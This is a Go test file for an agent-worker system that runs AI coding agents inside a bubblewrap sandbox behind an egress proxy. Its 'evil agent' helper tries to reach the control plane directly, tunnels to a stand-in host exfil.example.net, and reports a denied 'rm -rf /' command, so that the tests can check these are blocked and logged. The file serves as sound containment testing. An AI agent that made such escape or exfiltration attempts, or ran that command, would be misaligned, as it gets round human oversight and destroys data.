//go:build linux

package worker_test

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/whilly-go/whilly/agent"
	"github.com/whilly-go/whilly/cmd/whilly-worker/workercli"
	"github.com/whilly-go/whilly/control/client"
	"github.com/whilly-go/whilly/queue"
	"github.com/whilly-go/whilly/sandbox"
	"github.com/whilly-go/whilly/worker"
	"github.com/whilly-go/whilly/worker/workerenv"
)

func TestMain(m *testing.M) {
	// This test binary is the sandbox's init and the evil agent of the tests below.
	sandbox.HandleInit()
	if len(os.Args) > 2 && os.Args[1] == evilAgentArg {
		os.Exit(evilAgent(os.Args[2]))
	}
	if len(os.Args) > 1 && os.Args[1] == workerMainArg {
		os.Exit(workercli.Main(context.Background(), os.Args[2:], os.Stdout, os.Stderr, os.Getenv))
	}
	os.Exit(m.Run())
}

const (
	evilAgentArg  = "__evil_agent"
	workerMainArg = "__whilly_worker"
)

// evilAgent tries the control plane at target directly, and a host that is not allowed
// through the proxy twice; then it reports success with a permission denial of its CLI.
func evilAgent(target string) int {
	_, _ = io.Copy(io.Discard, os.Stdin)
	report := "direct=refused"
	if c, err := net.DialTimeout("tcp", target, 2*time.Second); err == nil {
		report = "direct=connected"
		_ = c.Close()
	}
	if pu, err := url.Parse(os.Getenv("HTTPS_PROXY")); err == nil && pu.Host != "" {
		for range 2 {
			if c, err := net.DialTimeout("tcp", pu.Host, 2*time.Second); err == nil {
				fmt.Fprintf(c, "CONNECT exfil.example.net:443 HTTP/1.1\r\nHost: exfil.example.net:443\r\n\r\n")
				line, _ := bufio.NewReader(c).ReadString('\n')
				report += " proxy=" + strings.TrimSpace(line)
				_ = c.Close()
			}
		}
	}
	out, _ := json.Marshal(map[string]any{"result": report + " " + agent.CompletionMarker, "total_cost_usd": 0.01,
		"permission_denials": []any{map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": "rm -rf /"}}}})
	fmt.Println(string(out))
	return 0
}

func boxedT(t *testing.T) {
	t.Helper()
	if err := sandbox.Check(context.Background()); err != nil {
		if os.Getenv("WHILLY_TEST_SANDBOX") == "require" {
			t.Fatalf("the sandbox must work here: %v", err)
		}
		t.Skipf("bubblewrap does not work here: %v", err)
	}
}

// An agent in the box reaches neither the control plane nor a host that is not allowed;
// the refused host becomes exactly one agent.egress_denied event of its task, and the
// attempt's agent.attempt event says how it ran and what its CLI refused. With
// WHILLY_SANDBOX=none the same agent reaches the control plane, and the events say
// sandbox: none.
func TestSandboxedAttemptEvents(t *testing.T) {
	t.Parallel()
	boxedT(t)
	e := newEnv(t)
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	target := strings.TrimPrefix(e.url, "http://")
	run := func(planID, mode string) []queue.Event {
		e.importTasks(t, planID, 1)
		sb, err := sandbox.New(sandbox.Config{Settings: sandbox.Settings{Mode: mode, Net: sandbox.NetProxy}})
		if err != nil {
			t.Fatal(err)
		}
		w, token, err := e.st.RegisterWorker(context.Background(), "test", nil)
		if err != nil {
			t.Fatal(err)
		}
		api, err := client.New(e.url, token, client.Options{})
		if err != nil {
			t.Fatal(err)
		}
		ag, err := agent.New(agent.NameCommand, agent.Config{Command: exe + " " + evilAgentArg + " " + target, Sandbox: sb,
			BaseEnv: []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir()}})
		if err != nil {
			t.Fatal(err)
		}
		wk, err := worker.New(api, ag, nil, worker.Config{WorkerID: w.ID, PlanID: planID, Drain: true, ClaimWait: time.Second,
			WorkDir: t.TempDir(), Sandbox: sb})
		if err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		if sum, err := wk.Run(ctx); err != nil || sum.Done != 1 {
			t.Fatalf("%s: %+v %v", mode, sum, err)
		}
		evs, err := e.st.Events(context.Background(), queue.EventFilter{PlanID: planID})
		if err != nil {
			t.Fatal(err)
		}
		return evs
	}
	payloads := func(evs []queue.Event, typ string) []map[string]any {
		var out []map[string]any
		for _, ev := range evs {
			if ev.Type == typ {
				var p map[string]any
				if err := json.Unmarshal(ev.Payload, &p); err != nil {
					t.Fatal(err)
				}
				out = append(out, p)
			}
		}
		return out
	}
	result := func(t *testing.T, planID string) string {
		task, err := e.st.GetTask(context.Background(), planID, "T00")
		if err != nil {
			t.Fatal(err)
		}
		return task.Result
	}

	evs := run("boxed", sandbox.ModeBwrap)
	if r := result(t, "boxed"); !strings.Contains(r, "direct=refused") || strings.Count(r, "403 Forbidden") != 2 {
		t.Errorf("in the box the agent reported %q", r)
	}
	denied := payloads(evs, worker.EventEgressDenied)
	if len(denied) != 1 || denied[0]["host"] != "exfil.example.net" || denied[0]["port"] != float64(443) || denied[0]["task_id"] != "T00" {
		t.Errorf("agent.egress_denied events = %v, want exactly one for exfil.example.net:443 of T00", denied)
	}
	att := payloads(evs, worker.EventAttempt)
	if len(att) != 1 || att[0]["sandbox"] != sandbox.ModeBwrap || att[0]["net"] != sandbox.NetProxy {
		t.Fatalf("agent.attempt events = %v", att)
	}
	if d, _ := json.Marshal(att[0]["permission_denials"]); !strings.Contains(string(d), `"tool_name":"Bash"`) {
		t.Errorf("permission denials not surfaced: %s", d)
	}

	evs = run("unboxed", sandbox.ModeNone)
	if r := result(t, "unboxed"); !strings.Contains(r, "direct=connected") {
		t.Errorf("unboxed the agent should reach the control plane (the attack the box stops): %q", r)
	}
	if att := payloads(evs, worker.EventAttempt); len(att) != 1 || att[0]["sandbox"] != sandbox.ModeNone {
		t.Errorf("agent.attempt events = %v, want sandbox: none", att)
	}
}

// Secure by default: with WHILLY_SANDBOX unset and no bubblewrap, a worker whose agent
// runs a process exits 2 naming the fix before it registers; WHILLY_SANDBOX=bwrap does
// too; the sim agent, which runs no process, goes on.
func TestWorkerWithoutBubblewrapExits2(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	noBwrap := t.TempDir() // a PATH without bwrap
	run := func(env ...string) (int, string) {
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, exe, workerMainArg, "--connect", e.url, "--once")
		cmd.Env = append([]string{"PATH=" + noBwrap, "HOME=" + t.TempDir(), "WHILLY_BOOTSTRAP_TOKEN=boot"}, env...)
		out, err := cmd.CombinedOutput()
		var ee *exec.ExitError
		if err != nil && !errors.As(err, &ee) {
			t.Fatal(err)
		}
		return cmd.ProcessState.ExitCode(), string(out)
	}
	for _, env := range [][]string{{"WHILLY_AGENT=command", "WHILLY_AGENT_CMD=/bin/true"}, {"WHILLY_AGENT=claude"},
		{"WHILLY_AGENT=command", "WHILLY_AGENT_CMD=/bin/true", "WHILLY_SANDBOX=bwrap"}} {
		code, out := run(env...)
		if code != 2 || !strings.Contains(out, "apt-get install bubblewrap") || !strings.Contains(out, "WHILLY_SANDBOX=none") {
			t.Errorf("%v: exit %d, want 2 naming the fix:\n%s", env, code, out)
		}
		if strings.Contains(out, "registered") {
			t.Errorf("%v: the worker registered before it refused:\n%s", env, out)
		}
	}
	ws, err := e.st.ListWorkers(context.Background())
	if err != nil || len(ws) != 0 {
		t.Errorf("workers registered: %v %v", ws, err)
	}
}

// At start the worker logs the hosts its agents may reach: the model API's, the package
// registries' (the ecosystems' defaults and the worker's own npmrc's), and the worker's
// own proxy without its password.
func TestOpenSandboxLogsTheAllowedHosts(t *testing.T) {
	t.Parallel()
	boxedT(t)
	home := t.TempDir()
	if err := os.WriteFile(home+"/.npmrc", []byte("registry=https://npm.corp.example/\n//npm.corp.example/:_authToken=SECRET\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	env := map[string]string{"HOME": home, "PATH": os.Getenv("PATH"), "HTTPS_PROXY": "http://me:hunter2@corp.example:3128"}
	getenv := func(k string) string { return env[k] }
	for mode, want := range map[string][]string{
		"":    {"registries=auto", "api.anthropic.com", "registry.npmjs.org", "npm.corp.example", "upstream_proxy=", "corp.example:3128"},
		"off": {"registries=off", `allowed_hosts=api.anthropic.com `},
	} {
		env["WHILLY_SANDBOX_REGISTRIES"] = mode
		var buf strings.Builder
		if _, err := workerenv.OpenSandbox(context.Background(), getenv, "claude", slog.New(slog.NewTextHandler(&buf, nil))); err != nil {
			t.Fatal(err)
		}
		out := buf.String()
		for _, w := range want {
			if !strings.Contains(out, w) {
				t.Errorf("WHILLY_SANDBOX_REGISTRIES=%q: the log lacks %q:\n%s", mode, w, out)
			}
		}
		if strings.Contains(out, "hunter2") || strings.Contains(out, "me:") || strings.Contains(out, "SECRET") || strings.Count(out, "\n") != 1 {
			t.Errorf("WHILLY_SANDBOX_REGISTRIES=%q: the log:\n%s", mode, out)
		}
	}
}
